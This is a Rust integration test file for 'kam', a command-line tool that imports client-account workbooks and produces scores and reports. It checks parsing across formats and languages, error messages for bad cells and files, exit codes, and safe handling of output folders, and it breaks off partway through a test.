//! Integration tests: the real `kam` binary on workbooks under `tests/fixtures/`.

use std::fs;
use std::path::{Path, PathBuf};

use assert_cmd::Command;
use tempfile::TempDir;

fn kam() -> Command {
    Command::cargo_bin("kam").expect("binary built")
}

fn fixture(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(rel)
}

struct Run {
    code: i32,
    stderr: String,
    out: PathBuf,
    _dir: TempDir,
}

impl Run {
    fn file(&self, name: &str) -> String {
        fs::read_to_string(self.out.join(name)).unwrap_or_else(|e| panic!("{name}: {e}"))
    }
    fn rejects(&self) -> Vec<String> {
        self.file("rejects.csv")
            .lines()
            .skip(1)
            .map(String::from)
            .collect()
    }
    /// accounts.csv as rows of (column → value) for the given columns.
    fn accounts(&self, columns: &[&str]) -> Vec<String> {
        let text = self.file("accounts.csv");
        let mut rdr = csv::Reader::from_reader(text.as_bytes());
        let header = rdr.headers().unwrap().clone();
        let idx: Vec<usize> = columns
            .iter()
            .map(|c| {
                header
                    .iter()
                    .position(|h| h == *c)
                    .unwrap_or_else(|| panic!("no column {c}"))
            })
            .collect();
        rdr.records()
            .map(|r| {
                let r = r.unwrap();
                idx.iter()
                    .map(|i| r.get(*i).unwrap_or(""))
                    .collect::<Vec<_>>()
                    .join("|")
            })
            .collect()
    }
}

fn run(args: &[&str]) -> Run {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let mut cmd = kam();
    cmd.current_dir(dir.path())
        .args(args)
        .arg("--out")
        .arg(&out);
    let o = cmd.output().unwrap();
    Run {
        code: o.status.code().unwrap_or(-1),
        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
        out,
        _dir: dir,
    }
}

/// Asserts that the run's stderr says `text`, showing all of it when it does not.
fn assert_says(r: &Run, text: &str) {
    assert!(r.stderr.contains(text), "{}", r.stderr);
}

fn run_file(rel: &str, extra: &[&str]) -> Run {
    let path = fixture(rel);
    let mut args = vec!["run", path.to_str().unwrap()];
    args.extend_from_slice(extra);
    run(&args)
}

const FIGURES: &[&str] = &[
    "id",
    "name",
    "kam_id",
    "level",
    "revenue",
    "gross_profit",
    "figures_source",
    "wallet",
];

#[test]
fn no_arguments_runs_the_embedded_sample() {
    let dir = tempfile::tempdir().unwrap();
    let o = kam().current_dir(dir.path()).output().unwrap();
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(stderr.contains("kam-sample.xlsx (embedded): 30 accounts, 9 transaction lines, 19 contacts, 29 activities, 4 tenders, 5 managers, 8 plan items; 0 rows rejected, 0 cells doubtful"), "{stderr}");
    for f in [
        "accounts.csv",
        "rejects.csv",
        "import.json",
        "manifest.json",
    ] {
        assert!(dir.path().join("kam-out").join(f).is_file(), "{f}");
    }
}

#[test]
fn without_a_command_workbooks_and_run_options_run_the_main_job() {
    // `kam --lang ru` is `kam run --lang ru` on the sample.
    let r = run(&["--lang", "ru", "--quiet"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.file("index.html").contains("Сводка по портфелю"));
    // `kam BOOK` is `kam run BOOK`: the same scores.
    let book = fixture("valid/kam-sample.xlsx");
    let book = book.to_str().unwrap();
    let (plain, with_run) = (run(&[book, "-q"]), run(&["run", book, "-q"]));
    assert_eq!(plain.code, 0, "{}", plain.stderr);
    assert_eq!(plain.file("scores.json"), with_run.file("scores.json"));
    // A misspelt command stays an unknown command, not a workbook to read; an unknown option
    // is clap's error; a bad value of a run option is the run's own message.
    for (args, says) in [
        (vec!["rn"], "unrecognized subcommand 'rn'"),
        (vec!["--nosuch"], "unexpected argument '--nosuch' found"),
        (vec!["--lang", "fr"], "unknown --lang `fr`"),
        (vec!["missing.xlsx"], "missing.xlsx: no such file"),
    ] {
        let r = run(&args);
        assert_eq!(r.code, 2, "{args:?}: {}", r.stderr);
        assert_says(&r, says);
        assert!(!r.out.exists(), "{args:?}");
    }
}

#[test]
fn the_sample_imports_as_written_by_hand() {
    let r = run(&["run"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.rejects().is_empty());
    let rows = r.accounts(FIGURES);
    assert_eq!(rows.len(), 30);
    assert_eq!(
        rows[0],
        "A01|Caspian Steel JSC|K1|company|10000000|2500000|accounts|12000000"
    );
    assert_eq!(
        rows[12],
        "A13|Royal Hotels|K4|manager|500000|150000|accounts|600000"
    );
    assert_eq!(
        rows[19],
        "A20|Harbor Insurance|K5|department|250000|50000|accounts|300000"
    );
    assert_eq!(
        rows[28],
        "A29|Caspian Electric Grid|K1|company|0|0|accounts|9000000"
    );
    let counts = r.accounts(&["id", "contacts", "activities", "tenders", "plan_items"]);
    assert_eq!(counts[0], "A01|4|5|1|6");
    assert_eq!(counts[3], "A04|3|3|1|0");
    // Gross profit sums to 10 000 000 exactly, by construction of the sample.
    let total: f64 = r
        .accounts(&["gross_profit"])
        .iter()
        .map(|v| v.parse::<f64>().unwrap())
        .sum();
    assert_eq!(total, 10_000_000.0);
}

#[test]
fn transactions_net_per_quarter_with_returns() {
    let ds =
        kam::import::import_bytes("s.xlsx", kam::SAMPLE_WORKBOOK, &Default::default()).unwrap();
    let q = |id: &str| -> Vec<String> {
        let a = ds.accounts.iter().find(|a| a.id == id).unwrap();
        a.quarters
            .iter()
            .map(|(k, f)| format!("{k}:{}/{}/{}", f.revenue, f.gross_profit, f.lines))
            .collect()
    };
    // A01: an invoice of 2 600 000 and a return of 100 000 in Q1 net to 2 500 000.
    assert_eq!(
        q("A01"),
        [
            "2026-Q1:2500000/625000/2",
            "2026-Q2:2500000/625000/1",
            "2026-Q3:2500000/625000/1",
            "2026-Q4:2500000/625000/1"
        ]
    );
    // A02: margin given directly.
    assert_eq!(
        q("A02"),
        ["2026-Q1:2000000/600000/1", "2026-Q3:2000000/600000/1"]
    );
    // A03: no amount, so quantity × unit price; margin = amount − cost.
    assert_eq!(
        q("A03"),
        ["2026-Q1:2000000/600000/1", "2026-Q3:1500000/450000/1"]
    );
    assert_eq!(ds.transaction_lines, 9);
}

#[test]
fn the_same_data_in_xls_xlsb_and_ods_imports_identically() {
    let xlsx = run_file("valid/kam-sample.xlsx", &[]);
    assert_eq!(xlsx.code, 0, "{}", xlsx.stderr);
    for other in [
        "valid/kam-sample.xls",
        "valid/kam-sample.xlsb",
        "valid/kam-sample.ods",
    ] {
        let r = run_file(other, &[]);
        assert_eq!(r.code, 0, "{other}: {}", r.stderr);
        assert_eq!(r.file("accounts.csv"), xlsx.file("accounts.csv"), "{other}");
        assert_eq!(r.file("rejects.csv"), xlsx.file("rejects.csv"), "{other}");
    }
    let lib = |rel: &str| kam::import::import_path(&fixture(rel), &Default::default()).unwrap();
    let a = lib("valid/kam-sample.xlsx");
    for other in [
        "valid/kam-sample.xls",
        "valid/kam-sample.xlsb",
        "valid/kam-sample.ods",
    ] {
        let b = lib(other);
        assert_eq!(a.accounts, b.accounts, "{other}");
        assert_eq!(a.contacts, b.contacts, "{other}");
        assert_eq!(a.activities, b.activities, "{other}");
        assert_eq!(a.tenders, b.tenders, "{other}");
        assert_eq!(a.managers, b.managers, "{other}");
        assert_eq!(a.plans, b.plans, "{other}");
    }
}

/// Columns compared for the Russian and Azerbaijani workbooks (same data, other languages).
const LANGUAGE_COLUMNS: &[&str] = &[
    "id",
    "name",
    "kam_id",
    "level",
    "revenue",
    "gross_profit",
    "figures_source",
    "wallet",
    "reference",
    "innovator",
    "contacts",
];

#[test]
fn russian_headers_import_without_mapping() {
    let r = run_file("valid/ru-headers.xlsx", &[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.rejects().is_empty(), "{:?}", r.rejects());
    assert_eq!(
        r.accounts(LANGUAGE_COLUMNS),
        [
            "R1|ООО «Каспий Сталь»|M1|company|1200000.5|300000|accounts|2000000|yes|no|1",
            "R2|АО «Волга Фудс»|M1|department|800000|200000|accounts|1000000|no|no|1",
            // A numeric id, revenue and profit from Transactions (a return nets out).
            "17850|ИП Петров|M2|company|20000|8200|transactions|50000|no|yes|0",
            "R4|ЗАО «Норд»|M2|company|400000|100000|accounts||no|no|0",
        ]
    );
}

#[test]
fn azerbaijani_headers_import_without_mapping() {
    let r = run_file("valid/az-headers.xlsx", &[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.rejects().is_empty(), "{:?}", r.rejects());
    assert_eq!(
        r.accounts(LANGUAGE_COLUMNS),
        [
            "R1|Xəzər Polad MMC|M1|company|1200000.5|300000|accounts|2000000|yes|no|1",
            "R2|Volqa Qida ASC|M1|department|800000|200000|accounts|1000000|no|no|1",
            "17850|Petrov FŞ|M2|company|20000|8200|transactions|50000|no|yes|0",
            "R4|Nord QSC|M2|company|400000|100000|accounts||no|no|0",
        ]
    );
    let ds =
        kam::import::import_path(&fixture("valid/az-headers.xlsx"), &Default::default()).unwrap();
    assert_eq!(ds.contacts[0].role.as_deref(), Some("executive"));
    assert_eq!(ds.contacts[1].role.as_deref(), Some("finance"));
}

#[test]
fn a_foreign_export_imports_through_its_mapping_file() {
    let r = run_file("valid/foreign.xlsx", &[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.rejects().is_empty(), "{:?}", r.rejects());
    assert_eq!(
        r.accounts(&[
            "id",
            "name",
            "kam_id",
            "industry",
            "revenue",
            "gross_profit",
            "figures_source",
            "wallet",
            "strategic_fit",
            "source"
        ]),
        [
            "C-001|Alpha Industries|jdoe|Industrial|500000|150000|accounts|900000|5|'CRM Export'!A4",
            "C-002|Beta Retail|jdoe|Retail|250000|50000|accounts|260000|2|'CRM Export'!A5",
            "C-003|Gamma Health|asmith|Healthcare|125000|50000|accounts|1000000|4|'CRM Export'!A6",
        ]
    );
    assert_says(&r, "sheet 'Lookup' ignored");
    let ds = kam::import::import_path(
        &fixture("valid/foreign.xlsx"),
        &kam::import::ImportOptions {
            mapping: Some(
                &kam::import::Mapping::load(&fixture("valid/foreign.mapping.yaml")).unwrap(),
            ),
            ..Default::default()
        },
    )
    .unwrap();
    let q: Vec<String> = ds.accounts[0]
        .quarters
        .iter()
        .map(|(k, f)| format!("{k}:{}/{}", f.revenue, f.gross_profit))
        .collect();
    assert_eq!(q, ["2026-Q1:1000/300"]);
    let json = r.file("import.json").replace(
        &fixture("valid/foreign.xlsx").display().to_string(),
        "[fixtures]/valid/foreign.xlsx",
    );
    insta::assert_snapshot!("foreign_import_json", json);
}

#[test]
fn a_plain_sales_export_is_scorable() {
    let r = run_file("valid/transactions-only.xlsx", &[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.rejects().is_empty(), "{:?}", r.rejects());
    assert_eq!(
        r.accounts(&[
            "id",
            "name",
            "kam_id",
            "revenue",
            "gross_profit",
            "figures_source",
            "source"
        ]),
        [
            // 500 + 5 × 100 − 100 (credit note); (500 − 300) + (500 − 350) − (100 − 60).
            "C1|Kappa Foods|K7|900|310|transactions|Sales!A2",
            "C2|Lambda Steel|K8|1000|400|transactions|Sales!A3",
            // No cost on its only line: gross profit is unknown, not zero.
            "C3|Mu Pharma|K8|2000||transactions|Sales!A6",
        ]
    );
}

#[test]
fn unreadable_files_get_one_plain_sentence_and_exit_2() {
    let cases = [
        (
            "invalid/empty.xlsx",
            "the file is empty (0 bytes): export the workbook again",
        ),
        (
            "invalid/truncated.xlsx",
            "the file is damaged or incomplete (perhaps a download or copy was cut short): export or copy the workbook again",
        ),
        (
            "invalid/renamed-csv.xlsx",
            "this is a CSV (text) file, not a workbook: open it in Excel or LibreOffice and save it as .xlsx",
        ),
        (
            "invalid/password.xlsx",
            "the workbook is password-protected (encrypted), so kam cannot read it: open it in Excel, remove the password (File → Info → Protect Workbook) and save it again",
        ),
        (
            "invalid/missing-accounts.xlsx",
            "no Accounts sheet and no Transactions sheet to derive accounts from; its sheets are: Contacts, Customer list. Name the client sheet 'Accounts' (or Клиенты, Müştərilər), or say which sheet it is in a mapping file",
        ),
    ];
    for (rel, message) in cases {
        let r = run_file(rel, &[]);
        assert_eq!(r.code, 2, "{rel}");
        assert_eq!(
            r.stderr,
            format!("error: {}: {message}\n", fixture(rel).display()),
            "{rel}"
        );
        assert!(!r.out.exists(), "{rel}: no partial output");
    }
}

#[test]
fn duplicate_and_missing_ids_are_listed_with_both_rows() {
    let r = run_file("invalid/duplicate-ids.xlsx", &[]);
    assert_eq!(r.code, 0);
    let f = fixture("invalid/duplicate-ids.xlsx").display().to_string();
    assert_eq!(
        r.rejects(),
        [
            format!(
                "{f},Accounts,Accounts!A4,id,A1,row,duplicate account id `A1`: already used at Accounts!A2; this row is not used"
            ),
            format!(
                "{f},Accounts,Accounts!A5,id,,row,no account id: the row cannot be matched to anything; fill in the id or delete the row"
            ),
        ]
    );
    assert_eq!(r.accounts(&["id", "gross_profit"]), ["A1|100", "A2|50"]);
    assert_says(
        &r,
        "2 accounts, 0 transaction lines, 0 contacts, 0 activities, 0 tenders, 0 managers, 0 plan items; 2 rows rejected, 0 cells doubtful",
    );
}

#[test]
fn child_rows_for_unknown_accounts_are_rejected_with_a_suggestion() {
    let r = run_file("invalid/unknown-account.xlsx", &[]);
    let f = fixture("invalid/unknown-account.xlsx")
        .display()
        .to_string();
    assert_eq!(
        r.rejects(),
        [
            format!(
                "{f},Contacts,Contacts!A3,account_id,ACC-300,row,account `ACC-300` is not in Accounts (did you mean `ACC-100`?); this row is not used"
            ),
            format!(
                "{f},Contacts,Contacts!A4,account_id,ACC-20,row,account `ACC-20` is not in Accounts (did you mean `ACC-200`?); this row is not used"
            ),
        ]
    );
    assert_eq!(r.accounts(&["id", "contacts"]), ["ACC-100|1", "ACC-200|0"]);
}

/// Child sheets are read at the same time as Accounts and their account ids looked up
/// afterwards: the rejects must be the same, in the same order, as reading them after Accounts
/// (`--fail-fast` does), whatever else is wrong with the row and on any number of threads.
/// The readers take the largest sheets first, which here is the sheet order reversed.
#[test]
fn unknown_accounts_read_beside_accounts_are_rejected_in_row_order() {
    let rel = "invalid/unknown-account-mixed.xlsx";
    let f = fixture(rel).display().to_string();
    let bytes = std::fs::read(fixture(rel)).expect("fixture");
    let sizes = kam::import::book::sheet_sizes(kam::import::book::Format::Xlsx, &bytes);
    assert!(
        sizes["Activities"] > sizes["Transactions"] && sizes["Transactions"] > sizes["Accounts"],
        "the fixture no longer has its sheets in the opposite order of their sizes: {sizes:?}"
    );
    let expected = [
        format!(
            "{f},Transactions,Transactions!B3,account_id,X9,row,account `X9` is not in Accounts; this row is not used"
        ),
        format!(
            "{f},Transactions,Transactions!C4,amount,about 5,cell,\"`about 5` is not an amount: write digits only, e.g. 1234.50\""
        ),
        format!(
            "{f},Transactions,Transactions!B4,account_id,X9,row,account `X9` is not in Accounts; this row is not used"
        ),
        format!(
            "{f},Transactions,Transactions!B5,account_id,,row,no account id: the row cannot be matched to a client; fill it in or delete the row"
        ),
        format!(
            "{f},Transactions,Transactions!C6,amount,,row,\"no amount: fill in the amount, or quantity and unit price\""
        ),
        format!(
            "{f},Activities,Activities!A3,account_id,X8,row,account `X8` is not in Accounts; this row is not used"
        ),
        format!(
            "{f},Activities,Activities!C4,type,,row,\"no activity type: write meeting, call, proposal, complaint, reference_letter, referral or deal\""
        ),
        format!(
            "{f},Activities,Activities!A5,account_id,X8,row,account `X8` is not in Accounts; this row is not used"
        ),
    ];
    for jobs in ["1", "2"] {
        let r = run_file(rel, &["--jobs", jobs]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert_eq!(r.rejects(), expected, "--jobs {jobs}");
        assert_eq!(
            r.accounts(&["id", "revenue", "activities"]),
            ["A1|100|1", "A2||1"],
            "--jobs {jobs}"
        );
        assert_says(
            &r,
            "2 accounts, 1 transaction line, 0 contacts, 2 activities, 0 tenders, 0 managers, 0 plan items; 7 rows rejected, 1 cell doubtful",
        );
    }
    let r = run_file(rel, &["--fail-fast"]);
    assert_eq!(r.code, 2);
    assert_says(
        &r,
        &format!(
            "stopped at the first problem (--fail-fast): {f}: Transactions!B3: account `X9` is not in Accounts"
        ),
    );
}

#[test]
fn text_and_error_cells_in_money_columns_are_listed() {
    let r = run_file("invalid/text-in-money.xlsx", &[]);
    let f = fixture("invalid/text-in-money.xlsx").display().to_string();
    assert_eq!(
        r.rejects(),
        [
            format!(
                "{f},Accounts,Accounts!C2,revenue,about 5000,cell,\"`about 5000` is not an amount: write digits only, e.g. 1234.50\""
            ),
            format!(
                "{f},Accounts,Accounts!D3,gross_profit,n/a,cell,\"`n/a` is not an amount: write digits only, e.g. 1234.50\""
            ),
            format!(
                "{f},Accounts,Accounts!C4,revenue,#N/A,cell,\"error cell #N/A: fix the formula in the source, or clear the cell\""
            ),
            format!(
                "{f},Accounts,Accounts!D4,gross_profit,#DIV/0!,cell,\"error cell #DIV/0!: fix the formula in the source, or clear the cell\""
            ),
            format!(
                "{f},Accounts,Accounts!E4,wallet,TRUE,cell,yes/no where an amount was expected"
            ),
        ]
    );
    // The rows are kept; the doubtful cells are empty, the good ones read (12 000.50 and 12 000,50).
    assert_eq!(
        r.accounts(&["id", "revenue", "gross_profit", "wallet"]),
        ["A1||1000|12000.5", "A2|12000.5||30000", "A3|||"]
    );
}

#[test]
fn bad_dates_are_listed_and_the_lines_still_count() {
    let r = run_file("invalid/bad-dates.xlsx", &[]);
    assert_eq!(r.rejects().len(), 3);
    assert!(r.rejects()[0].ends_with("Transactions,Transactions!A3,date,31.02.2026,cell,`31.02.2026` is not a date: write 2026-03-15 or 15.03.2026"));
    assert!(r.rejects()[2].contains("Transactions!A5,date,2026-13-01"));
    assert_eq!(
        r.accounts(&["id", "revenue", "gross_profit"]),
        ["A1|1500|600"]
    );
    let ds =
        kam::import::import_path(&fixture("invalid/bad-dates.xlsx"), &Default::default()).unwrap();
    let q: Vec<String> = ds.accounts[0]
        .quarters
        .iter()
        .map(|(k, f)| format!("{k}:{}", f.revenue))
        .collect();
    assert_eq!(q, ["2026-Q1:600", "undated:900"]);
}

#[test]
fn strict_turns_rejects_into_exit_1_and_fail_fast_stops_at_the_first() {
    let r = run_file("invalid/duplicate-ids.xlsx", &["--strict"]);
    assert_eq!(r.code, 1);
    assert!(
        r.out.join("rejects.csv").is_file(),
        "strict still writes the output"
    );
    let clean = run(&["run", "--strict"]);
    assert_eq!(clean.code, 0);
    let r = run_file("invalid/duplicate-ids.xlsx", &["--fail-fast"]);
    assert_eq!(r.code, 2);
    assert_eq!(
        r.stderr,
        format!(
            "error: stopped at the first problem (--fail-fast): {}: Accounts!A4: duplicate account id `A1`: already used at Accounts!A2; this row is not used\n",
            fixture("invalid/duplicate-ids.xlsx").display()
        )
    );
    assert!(!r.out.exists());
}

#[test]
fn a_failed_run_leaves_the_previous_output_intact() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    kam()
        .args(["run", "--quiet", "--out"])
        .arg(&out)
        .assert()
        .success();
    let before = fs::read_to_string(out.join("accounts.csv")).unwrap();
    kam()
        .args(["run", "--quiet", "--out"])
        .arg(&out)
        .arg(fixture("invalid/truncated.xlsx"))
        .assert()
        .code(2);
    assert_eq!(
        fs::read_to_string(out.join("accounts.csv")).unwrap(),
        before
    );
    let leftovers: Vec<_> = fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(leftovers, [std::ffi::OsString::from("out")]);
}

/// The names in `dir`, sorted.
fn names_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .collect();
    names.sort();
    names
}

#[test]
fn the_replaced_output_is_removed_after_kam_returns_with_any_left_by_earlier_runs() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    kam()
        .args(["run", "--quiet", "--no-plans", "--out"])
        .arg(&out)
        .assert()
        .success();
    let first = fs::read(out.join("scores.json")).unwrap();
    // A previous output whose removal was cut short (the machine stopped), and a folder that
    // only looks like one (no process id): the first goes with the next run, the second stays.
    let stale = dir.path().join(".out.kam-tmp-4242.old");
    fs::create_dir_all(stale.join("reviews")).unwrap();
    fs::write(stale.join("reviews/k1.md"), "old").unwrap();
    let lookalike = dir.path().join(".out.kam-tmp-.old");
    fs::create_dir(&lookalike).unwrap();
    // The background removal waits for this file (a test hook), so the run is seen to return
    // before it.
    let gate = dir.path().join("go");
    let o = kam()
        .env("KAM_TEST_REMOVAL_GATE", &gate)
        .args(["run", "--quiet", "--out"])
        .arg(&out)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0));
    // The new output is in place when kam returns (the plans show it is not the first), and
    // the previous one is moved aside, not yet removed.
    assert!(out.join("plans").is_dir());
    assert_eq!(fs::read(out.join("scores.json")).unwrap(), first);
    let mut names = names_in(dir.path());
    let known = [".out.kam-tmp-.old", ".out.kam-tmp-4242.old", "out"];
    let aside: Vec<String> = names
        .iter()
        .filter(|n| !known.contains(&n.as_str()))
        .cloned()
        .collect();
    names.retain(|n| known.contains(&n.as_str()));
    assert_eq!(names, known);
    assert_eq!(aside.len(), 1, "{aside:?}");
    assert!(
        aside[0].starts_with(".out.kam-tmp-") && aside[0].ends_with(".old"),
        "{aside:?}"
    );
    let aside = dir.path().join(&aside[0]);
    assert!(aside.join("manifest.json").is_file());
    assert!(
        !aside.join("plans").exists(),
        "the first output had no plans"
    );
    fs::write(&gate, "").unwrap();
    // The removal goes on in a process of its own: wait for it (a minute at most).
    for _ in 0..6000 {
        if names_in(dir.path()) == [".out.kam-tmp-.old", "go", "out"] {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    assert_eq!(names_in(dir.path()), [".out.kam-tmp-.old", "go", "out"]);
}

#[test]
fn the_hidden_removal_command_refuses_any_other_folder() {
    let dir = tempfile::tempdir().unwrap();
    let keep = dir.path().join("reports");
    fs::create_dir(&keep).unwrap();
    fs::write(keep.join("a.txt"), "keep").unwrap();
    let aside = dir.path().join(".out.kam-tmp-77.old");
    fs::create_dir(&aside).unwrap();
    let o = kam()
        .arg("remove-previous-output")
        .arg(&aside)
        .arg(&keep)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        String::from_utf8_lossy(&o.stderr),
        format!(
            "error: {} is not a previous kam output moved aside (a folder named .NAME.kam-tmp-PID.old): nothing removed\n",
            keep.display()
        )
    );
    assert_eq!(names_in(dir.path()), [".out.kam-tmp-77.old", "reports"]);
    #[cfg(unix)]
    {
        // A link named like one is not followed.
        let link = dir.path().join(".x.kam-tmp-1.old");
        std::os::unix::fs::symlink(&keep, &link).unwrap();
        kam()
            .arg("remove-previous-output")
            .arg(&link)
            .assert()
            .code(2);
        assert_eq!(fs::read_to_string(keep.join("a.txt")).unwrap(), "keep");
    }
    kam()
        .arg("remove-previous-output")
        .arg(&aside)
        .assert()
        .success();
    assert!(!aside.exists());
}

#[test]
fn a_folder_not_written_by_kam_is_never_replaced() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("thesis.docx"), "precious").unwrap();
    let o = kam()
        .args(["run", "--quiet", "--out"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("refusing to replace"));
    assert_eq!(
        fs::read_to_string(dir.path().join("thesis.docx")).unwrap(),
        "precious"
    );
}

#[test]
fn mapping_errors_show_the_line_and_a_caret() {
    let dir = tempfile::tempdir().unwrap();
    let map = dir.path().join("bad.mapping.yaml");
    fs::write(&map, "sheets:\n  Accounts:\n    sheet: CRM Export\n    header_row: 3\n    columns:\n      id: \"Cust No\"\n").unwrap();
    let o = kam()
        .args(["run", "--quiet", "--mapping"])
        .arg(&map)
        .arg(fixture("valid/foreign.xlsx"))
        .arg("--out")
        .arg(dir.path().join("o"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    let expected = format!(
        "error: {m}: column `Cust No` (for Accounts.id) is not in sheet 'CRM Export' (header row 3)\n --> {m}:6:12\n  |\n6 |       id: \"Cust No\"\n  |            ^^^^^^^\n  = hint: did you mean `Cust #`?\n",
        m = map.display()
    );
    assert_eq!(err, expected);

    fs::write(&map, "sheets:\n  Accounts:\n    sheet: crm export\n    derived:\n      gross_profit: revenue - cogs\n").unwrap();
    let o = kam()
        .args(["run", "--quiet", "--mapping"])
        .arg(&map)
        .arg(fixture("valid/foreign.xlsx"))
        .arg("--out")
        .arg(dir.path().join("o"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    let expected = format!(
        "error: {m}: the expression for `gross_profit` uses `cogs`, which sheet 'CRM Export' does not have\n --> {m}:5:31\n  |\n5 |       gross_profit: revenue - cogs\n  |                               ^^^^\n  = hint: did you mean `cogs_fy`?\n",
        m = map.display()
    );
    assert_eq!(err, expected);
}

#[test]
fn a_missing_file_suggests_the_near_name() {
    let dir = tempfile::tempdir().unwrap();
    fs::copy(
        fixture("valid/kam-sample.xlsx"),
        dir.path().join("clients.xlsx"),
    )
    .unwrap();
    let o = kam()
        .current_dir(dir.path())
        .args(["run", "client.xlsx", "-q"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        String::from_utf8_lossy(&o.stderr),
        "error: client.xlsx: no such file; did you mean ./clients.xlsx?\n"
    );
}

#[test]
fn several_workbooks_get_one_folder_each() {
    let r = run(&[
        "run",
        fixture("valid/ru-headers.xlsx").to_str().unwrap(),
        fixture("valid/az-headers.xlsx").to_str().unwrap(),
        "-j",
        "2",
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.out.join("ru-headers/accounts.csv").is_file());
    assert!(r.out.join("az-headers/accounts.csv").is_file());
    assert!(
        r.file("manifest.json")
            .contains("\"output\": \"az-headers\"")
    );
}

#[test]
fn sample_is_deterministic_and_imports_cleanly() {
    let dir = tempfile::tempdir().unwrap();
    let a = dir.path().join("a.xlsx");
    let b = dir.path().join("b.xlsx");
    let c = dir.path().join("c.xlsx");
    for (p, seed) in [(&a, "5"), (&b, "5"), (&c, "6")] {
        kam()
            .args([
                "sample",
                "--accounts",
                "300",
                "--kams",
                "7",
                "--seed",
                seed,
                "-q",
            ])
            .arg(p)
            .assert()
            .success();
    }
    assert_eq!(
        fs::read(&a).unwrap(),
        fs::read(&b).unwrap(),
        "same seed, same bytes"
    );
    assert_ne!(fs::read(&a).unwrap(), fs::read(&c).unwrap());
    let ds = kam::import::import_path(&a, &Default::default()).unwrap();
    assert!(
        ds.rejects.is_empty(),
        "{:?}",
        &ds.rejects[..ds.rejects.len().min(3)]
    );
    assert_eq!(ds.accounts.len(), 300);
    assert_eq!(ds.managers.len(), 7);
    assert_eq!(ds.transaction_lines, 3000);
    assert_eq!(ds.activities.len(), 3000);
    // The generator plants one critical-dependency client (22 % of gross profit).
    let total: f64 = ds.accounts.iter().filter_map(|a| a.gross_profit).sum();
    let top = ds.accounts[0].gross_profit.unwrap() / total;
    assert!((0.19..0.25).contains(&top), "top share {top}");
    assert!(
        ds.accounts
            .iter()
            .any(|a| a.revenue.is_none() && a.wallet.is_some()),
        "some clients buy nothing yet"
    );
    assert!(
        ds.activities
            .iter()
            .any(|a| a.kind == "proposal" && a.expiry.is_none())
    );
    assert!(
        ds.activities
            .iter()
            .any(|a| a.kind == "complaint" && a.resolved.is_none())
    );
}

#[test]
fn schema_matches_the_docs() {
    let o = kam()
        .args(["schema", "--format", "markdown"])
        .output()
        .unwrap();
    assert!(o.status.success());
    let md = String::from_utf8(o.stdout).unwrap();
    let docs =
        fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/workbook.md")).unwrap();
    assert!(
        docs.contains(&md),
        "docs/workbook.md is out of date: paste `kam schema --format markdown` into it"
    );
    let o = kam()
        .args(["schema", "--sheet", "Acounts"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("did you mean Accounts?"));
}

#[test]
fn help_reads_well() {
    let o = kam().arg("--help").output().unwrap();
    let help = String::from_utf8(o.stdout).unwrap();
    for word in ["run", "sample", "schema", "Run with no arguments"] {
        assert!(help.contains(word), "{help}");
    }
    for sub in ["run", "sample", "schema"] {
        let o = kam().args([sub, "--help"]).output().unwrap();
        assert!(o.status.success(), "{sub}");
    }
    let o = kam().args(["run", "--jobs", "0"]).output().unwrap();
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn output_is_identical_for_any_jobs_value_and_way_of_writing() {
    let dir = tempfile::tempdir().unwrap();
    let book = dir.path().join("s.xlsx");
    kam()
        .args([
            "sample",
            "--accounts",
            "400",
            "--kams",
            "9",
            "--seed",
            "3",
            "-q",
        ])
        .arg(&book)
        .assert()
        .success();
    // `direct`: large files written with O_DIRECT where the file system takes it (the
    // default), or through the page cache only.
    let read_with = |jobs: &str, direct: bool| {
        let out = dir.path().join(format!("out-{jobs}-{direct}"));
        let mut cmd = kam();
        if !direct {
            cmd.env("KAM_NO_DIRECT_IO", "1");
        }
        cmd.args(["run", "-q", "--all-plans", "--jobs", jobs, "--out"])
            .arg(&out)
            .arg(&book)
            .assert()
            .success();
        // Timings are the only part allowed to differ between runs.
        let mut manifest: serde_json::Value =
            serde_json::from_slice(&fs::read(out.join("manifest.json")).unwrap()).unwrap();
        assert!(manifest["timings"]["import_s"].is_number());
        manifest.as_object_mut().unwrap().remove("timings");
        // Every other file: exports, scores and every report.
        let files: Vec<(String, Vec<u8>)> = tree(&out)
            .into_iter()
            .filter(|f| f != "manifest.json")
            .map(|f| {
                let bytes = fs::read(out.join(&f)).unwrap();
